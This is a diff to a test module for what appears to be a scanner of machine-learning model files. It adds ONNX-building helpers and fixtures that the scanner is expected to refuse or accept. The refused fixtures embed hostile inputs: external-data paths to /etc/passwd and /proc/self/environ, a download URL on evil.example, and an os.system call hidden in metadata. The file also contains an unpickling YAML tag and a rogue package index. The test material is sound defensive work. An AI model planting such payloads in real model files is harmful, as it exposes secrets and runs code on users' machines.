@@ -119,6 +119,31 @@ def joblib_array(after: bytes = b"") -> bytes:
     return stream + bytes([padding]) + b"\xff" * padding + b"." * 32 + (after or b".")
 
 
+def proto(*fields: tuple[int, int | bytes]) -> bytes:
+    """Protocol buffer fields: numbers below 128, or bytes shorter than 16,384."""
+    out = b""
+    for number, value in fields:
+        if isinstance(value, int):
+            out += bytes([number << 3, value])
+        else:
+            size = len(value)
+            length = bytes([size]) if size < 128 else bytes([size & 127 | 128, size >> 7])
+            out += bytes([number << 3 | 2]) + length + value
+    return out
+
+
+def onnx(tensor: bytes, *, domain: bytes = b"", metadata: bytes = b"") -> bytes:
+    node = proto((1, b"x"), (2, b"y"), (4, b"Identity"), *([(7, domain)] if domain else []))
+    graph = proto((1, node), (2, b"g"), (5, tensor))
+    rest = [(14, proto((1, b"note"), (2, metadata)))] if metadata else []
+    return proto((1, 8), (7, graph), (8, proto((2, 17))), *rest)
+
+
+def onnx_outside(location: bytes, length: bytes = b"16") -> bytes:
+    entries = ((b"location", location), (b"offset", b"0"), (b"length", length))
+    return proto((1, 4), (2, 1), *((13, proto((1, key), (2, value))) for key, value in entries), (14, 1))
+
+
 SYSTEM = called("posix", "system")
 
 S08 = {
@@ -213,6 +238,12 @@ REFUSED = {
     "shebang/run.txt": b"#!/bin/sh\ntrue\n",
     "yaml/config.yaml": b"a: !!python/object/apply:os.system ['echo garrison-test']\n",
     "requirements.txt": b"--extra-index-url http://evil.example/simple\nnumpy\n",
+    "traversal.onnx": onnx(onnx_outside(b"../../etc/passwd")),
+    "url.onnx": onnx(onnx_outside(b"http://evil.example/w.bin")),
+    "absolute.onnx": onnx(onnx_outside(b"/proc/self/environ")),
+    "size.onnx": onnx(proto((1, 4), (2, 1), (9, bytes(12)))),
+    "python_operator.onnx": onnx(proto((1, 4), (2, 1), (9, bytes(16))), domain=b"ai.onnx.contrib"),
+    "program.onnx": onnx(proto((1, 4), (2, 1), (9, bytes(16))), metadata=b"__import__('os').system('id')"),
     "torchscript.pt": zipped(
         [("m/data.pkl", b"\x80\x02N."), ("m/code/__torch__.py", b"def f(x):\n  return torch.from_file('/etc/passwd')\n")]
     ),
@@ -224,6 +255,7 @@ INCOMPLETE = {
     "random.dat": bytes(range(255, 0, -1)) * 40,
     "cut.pkl": b"\x80\x04" + short("collections") + short("OrderedDict") + b"\x93)R",
     "trailing.pkl": b"\x80\x04K\x01.\xfe\xfe\xfe\xfe",
+    "custom_operator.onnx": onnx(proto((1, 4), (2, 1), (9, bytes(16))), domain=b"my.domain"),
     "unknown.zst": b"\x28\xb5\x2f\xfd" + bytes(32),
     "unsized.joblib": joblib_array().replace(short("u1"), short("q9")),
     "deep.json": b"[" * 5_000 + b"]" * 5_000,
@@ -243,6 +275,8 @@ CLEAN = {
     "empty_tensor.safetensors": safetensors({"a": tensor(0, 0)}),
     "model.gguf": gguf(),
     "template.gguf": gguf_with_template(MESSAGES),
+    "model.onnx": onnx(proto((1, 4), (2, 1), (9, bytes(16))), metadata=b"made by a test"),
+    "outside.onnx": onnx(onnx_outside(b"weights.bin")),
     "array.npy": npy(),
     "fields.npy": npy("[('a', '<f4'), ('b', '<i4', (2,))]", "(2,)", bytes(24)),
     "arrays.npz": zipped([("a.npy", npy()), ("b.npy", npy("'<U3'", "()", bytes(12)))], packed=True),
